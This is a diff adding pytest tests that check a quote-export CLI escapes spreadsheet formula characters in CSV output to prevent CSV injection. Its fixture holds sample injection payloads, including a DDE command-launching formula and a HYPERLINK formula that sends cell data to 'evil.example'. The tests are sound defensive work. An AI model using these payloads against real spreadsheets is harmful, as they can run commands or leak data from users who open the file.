@@ -80,6 +80,52 @@ def test_cite_csv_and_json(invoke: Invoke, archive: Path) -> None:
     assert data[0]["quote"].startswith("You’re going to see [these] groups [alternately]")
 
 
+HOSTILE_CSV = """\
+---
+title: "@SUM(1+1)*cmd|' /C calc'!A0"
+authors: [Ann Writer]
+publication: +Water Deeply
+speakers:
+  - {name: Jane Doe, role: "-2+3 harbour master"}
+---
+
+Water Deeply: =HYPERLINK("http://evil.example/?"&A1, "What comes in?")
+
+Jane Doe: =1+2 ships.
+
+And -more- ships, +plain = text.
+"""
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(invoke: Invoke, archive: Path) -> None:
+    """A cell that starts as a formula does (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`,
+    as OWASP advises against CSV injection; every other cell is as written."""
+    (archive / "harbour.md").write_text(HOSTILE_CSV, encoding="utf-8")
+    cite = invoke("quotes", "--speaker", "Doe", "--cite", "--format", "csv")
+    [row] = list(csv.DictReader(io.StringIO(cite.stdout)))
+    assert row["quote"] == "'=1+2 ships.\n\nAnd -more- ships, +plain = text."
+    assert row["question"] == '\'=HYPERLINK("http://evil.example/?"&A1, "What comes in?")'
+    assert row["role"] == "'-2+3 harbour master"
+    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["publication"] == "'+Water Deeply"
+    assert (row["speaker"], row["authors"], row["paragraph"]) == ("Jane Doe", "Ann Writer", "2")
+    rows = list(csv.DictReader(io.StringIO(invoke("export", "--format", "csv").stdout)))
+    doe = [r for r in rows if r["speaker"] == "Jane Doe"]
+    assert [r["text"][:3] for r in doe] == ["'=1"]
+    assert doe[0]["question"].startswith("'=HYPERLINK(") and doe[0]["role"].startswith("'-2")
+    assert {r["title"][:2] for r in rows if r["slug"] != SLUG} == {"'@"}
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_cell_guards_each_formula_start(start: str) -> None:
+    from deeply_cli.text import spreadsheet_cell
+
+    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_cell(f"x{start}1") == f"x{start}1" and spreadsheet_cell("") == ""
+    assert spreadsheet_cell(-3) == -3  # a number deeply wrote is no formula
+
+
 def test_cite_with_json_is_only_json(invoke: Invoke) -> None:
     want = json.loads(invoke("quotes", "--speaker", "Bonsey", "--cite", "--format", "json").stdout)
     got = invoke("quotes", "--speaker", "Bonsey", "--cite", "--json")
